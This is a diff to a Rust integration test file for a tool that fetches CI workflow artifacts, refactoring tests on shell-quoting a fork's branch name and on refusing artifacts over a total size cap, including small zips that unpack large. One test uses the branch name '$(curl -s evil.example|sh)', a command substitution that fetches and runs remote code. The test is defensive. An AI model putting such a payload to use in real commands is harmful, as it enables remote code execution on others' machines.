@@ -91,9 +91,7 @@ fn fetch_shows_esc_sequences_and_bidi_characters_from_a_manifest_escaped() {
 fn fetch_shell_quotes_a_hostile_branch_in_the_command_it_suggests() {
     let w = World::new();
     let branch = "$(curl -s evil.example|sh)";
-    let mut spec = RunSpec::completed(WORKFLOW, branch, &w.head, "success");
-    spec.event = "pull_request".into();
-    spec.head_repository = FORK.into();
+    let spec = RunSpec::pull_request(WORKFLOW, FORK, branch, &w.head);
     let run = w.fake.add_run(UPSTREAM, spec);
     w.expired_artifact(run);
 
@@ -201,23 +199,8 @@ fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
             .map(|i| (i * 7 + u32::from(seed)) as u8 ^ (i >> 3) as u8)
             .collect()
     };
-    let big: Vec<(String, Vec<u8>)> = (0..3u8)
-        .map(|i| {
-            let path = format!("tests/integration/recordings/big-{i}.json");
-            let zip = ZipBuilder::new()
-                .stored(&path, &noise(i))
-                .manifest(1, &[(&path, &noise(i))], &[])
-                .finish();
-            (format!("recordings-{i}"), zip)
-        })
-        .collect();
-    let before = w.snapshot();
-    let run = w.run_with(big.iter().map(|(n, z)| (n.as_str(), z.clone())).collect());
-    let out = w
-        .fetch_run(run)
-        .env("RERECORD_MAX_TOTAL_SIZE", "4000")
-        .run()
-        .failure();
+    let big = three_artifacts("big", noise, |zip, path, bytes| zip.stored(path, bytes));
+    let (before, out) = refused_over_total_cap(&w, &big, "4000");
     out.assert_stderr_has("over the 4000 byte limit for all artifacts of a run");
     assert_eq!(w.snapshot(), before);
     let downloads = w
@@ -230,26 +213,51 @@ fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
 
     // Small zips that unpack to more than the cap together: refused while unpacking.
     let w = World::new();
-    let zeros: Vec<(String, Vec<u8>)> = (0..3u8)
+    let zeros = three_artifacts("zeros", |_| zips::zeros(2000), ZipBuilder::file);
+    let (before, out) = refused_over_total_cap(&w, &zeros, "5000");
+    out.assert_stderr_has("the limit for all artifacts of a run together");
+    assert_eq!(w.snapshot(), before);
+}
+
+/// Artifacts `recordings-0` to `recordings-2`, the `i`th holding the one recording
+/// `tests/integration/recordings/{stem}-{i}.json` of `bytes(i)`, added to its zip by `add`.
+fn three_artifacts(
+    stem: &str,
+    bytes: impl Fn(u8) -> Vec<u8>,
+    add: impl Fn(ZipBuilder, &str, &[u8]) -> ZipBuilder,
+) -> Vec<(String, Vec<u8>)> {
+    (0..3u8)
         .map(|i| {
-            let path = format!("tests/integration/recordings/zeros-{i}.json");
-            let bytes = zips::zeros(2000);
-            let zip = ZipBuilder::new()
-                .file(&path, &bytes)
+            let path = format!("tests/integration/recordings/{stem}-{i}.json");
+            let bytes = bytes(i);
+            let zip = add(ZipBuilder::new(), &path, &bytes)
                 .manifest(1, &[(&path, &bytes)], &[])
                 .finish();
             (format!("recordings-{i}"), zip)
         })
-        .collect();
+        .collect()
+}
+
+/// `w` fetches a run of `artifacts` with `RERECORD_MAX_TOTAL_SIZE` at `cap`, which fails: the
+/// checkout's snapshot before, and the refusal.
+fn refused_over_total_cap(
+    w: &World,
+    artifacts: &[(String, Vec<u8>)],
+    cap: &str,
+) -> (Snapshot, Run) {
     let before = w.snapshot();
-    let run = w.run_with(zeros.iter().map(|(n, z)| (n.as_str(), z.clone())).collect());
+    let run = w.run_with(
+        artifacts
+            .iter()
+            .map(|(n, z)| (n.as_str(), z.clone()))
+            .collect(),
+    );
     let out = w
         .fetch_run(run)
-        .env("RERECORD_MAX_TOTAL_SIZE", "5000")
+        .env("RERECORD_MAX_TOTAL_SIZE", cap)
         .run()
         .failure();
-    out.assert_stderr_has("the limit for all artifacts of a run together");
-    assert_eq!(w.snapshot(), before);
+    (before, out)
 }
 
 #[test]
